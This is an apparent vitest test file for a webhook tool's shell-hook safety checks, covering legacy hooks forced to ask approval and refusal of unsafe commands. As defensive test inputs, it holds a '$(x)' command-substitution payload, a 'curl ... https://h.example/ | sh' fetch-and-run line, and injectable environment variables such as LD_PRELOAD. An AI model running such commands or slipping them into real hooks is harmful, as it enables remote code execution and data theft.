import { join } from "node:path";
import Database from "better-sqlite3";
import { expect, test } from "vitest";
import { testApp } from "../../fixtures/test-app.ts";

const context = testApp();
const { call } = context;

const LEGACY = "sh -c 'printf %s \"$1\"' - {{webhook.body.t}}";

/** A hook as an earlier version kept it: with a command that would be refused today, and never asking. */
async function keptBefore(command: string, queued = false): Promise<string> {
  await call("sources.create", {
    name: "s",
    path: "s",
    provider: "custom",
    requireSignature: false,
    replyProfile: "hookbench",
  });
  const { id } = await call("hooks.create", {
    name: "old",
    action: "execute_tool",
    actionConfig: { toolId: "shell", toolAction: "execute", toolParams: { command: "./safe.sh" } },
    approval: queued ? "ask" : "never",
  });
  if (queued) await fetch(`${context.app.receiverUrl}/hooks/s`, { method: "POST", body: '{"t":"$(x)"}' });
  await context.app.close();
  const db = new Database(join(context.ports.dataFolder, "hookbench.db"));
  const { document } = db
    .prepare<[string], { document: string }>("SELECT document FROM hooks WHERE id = ?")
    .get(id) ?? { document: "" };
  const { objection: _, ...hook } = JSON.parse(document);
  hook.actionConfig.toolParams.command = command;
  db.prepare("UPDATE hooks SET document = ? WHERE id = ?").run(JSON.stringify({ ...hook, approval: "never" }), id);
  if (queued) db.prepare("UPDATE executions SET status = 'queued'").run();
  db.close();
  await context.start();
  return id;
}

async function arrive(): Promise<string> {
  await fetch(`${context.app.receiverUrl}/hooks/s`, { method: "POST", body: '{"t":"$(x)"}' });
  await context.app.drain();
  const { items } = await call("executions.list", {});
  return items[0]?.id ?? "";
}

test("a hook whose command would be refused today is kept, asks, says why, and runs what was shown once it was approved", async () => {
  const id = await keptBefore(LEGACY);
  const [hook] = (await call("hooks.list", {})).items;
  expect(hook).toMatchObject({
    id,
    approval: "ask",
    objection: expect.stringContaining("not a script file of your own"),
  });

  const execution = await arrive();
  const waiting = await call("executions.get", { id: execution });
  expect(waiting).toMatchObject({ status: "waiting_approval", output: "" });
  expect(waiting.rendered).toBe('sh -c \'printf %s "$1"\' - "${HOOKBENCH_1}"\nHOOKBENCH_1="$(x)"');

  await call("executions.approve", { id: execution });
  await context.app.drain();
  expect(await call("executions.get", { id: execution })).toMatchObject({ status: "success", output: "$(x)" });
});

test("it goes on asking until its command is changed", async () => {
  const id = await keptBefore(LEGACY);
  const execution = await arrive();

  expect(await context.client.call("executions.approve", { id: execution, decision: "always" })).toMatchObject({
    ok: false,
    error: { code: "conflict", message: expect.stringContaining("asks before each run") },
  });
  expect(await context.client.call("hooks.update", { id, approval: "never" })).toMatchObject({
    ok: false,
    error: { code: "invalid_input", detail: [{ path: ["approval"] }] },
  });
  expect(await call("hooks.update", { id, isEnabled: false })).toMatchObject({ isEnabled: false, approval: "ask" });
  expect((await call("hooks.test", { id, run: true })).execution).toMatchObject({ status: "waiting_approval" });

  const toolParams = { command: "./safe.sh {{webhook.body.t}}" };
  const actionConfig = { toolId: "shell", toolAction: "execute", toolParams };
  expect(await call("hooks.update", { id, actionConfig, approval: "never" })).toMatchObject({
    objection: null,
    approval: "never",
  });
});

test("what was queued for it waits for approval too", async () => {
  await keptBefore(LEGACY, true);
  await context.app.drain();
  const { items } = await call("executions.list", {});
  expect(items).toMatchObject([{ status: "waiting_approval" }]);
});

test("a hook whose command is known to be safe stays as it was", async () => {
  await keptBefore("printf %s {{webhook.body.t}}");
  expect((await call("hooks.list", {})).items).toMatchObject([{ approval: "never", objection: null }]);
});

test("a refused command names the place, and commands that may stand in its place", async () => {
  const toolParams = { command: "curl -d {{webhook.body.t}} https://h.example/ | sh" };
  const input = {
    name: "new",
    action: "execute_tool",
    actionConfig: { toolId: "shell", toolAction: "execute", toolParams },
  } as const;
  const refused = await context.client.call("hooks.create", input);
  expect(refused).toMatchObject({
    ok: false,
    error: {
      code: "invalid_input",
      detail: [
        {
          path: ["actionConfig", "toolParams", "command"],
          message: expect.stringContaining("sh runs what it is given"),
          rewrites: [
            { kind: "script", command: "./my-script.sh {{webhook.body.t}}" },
            { kind: "stdin", command: "./my-script.sh" },
            { kind: "body-file", command: './my-script.sh "$HOOKBENCH_BODY_FILE"' },
          ],
        },
      ],
    },
  });
  for (const name of ["MAKEFLAGS", "LD_PRELOAD", "LESSOPEN", "http_proxy"]) {
    const env = { [name]: "{{webhook.body.t}}" };
    const withEnv = { ...input, actionConfig: { ...input.actionConfig, toolParams: { command: "./a.sh", env } } };
    expect(await context.client.call("hooks.create", withEnv)).toMatchObject({
      ok: false,
      error: { message: expect.stringContaining(`Call it PAYLOAD_${name}`) },
    });
  }
});
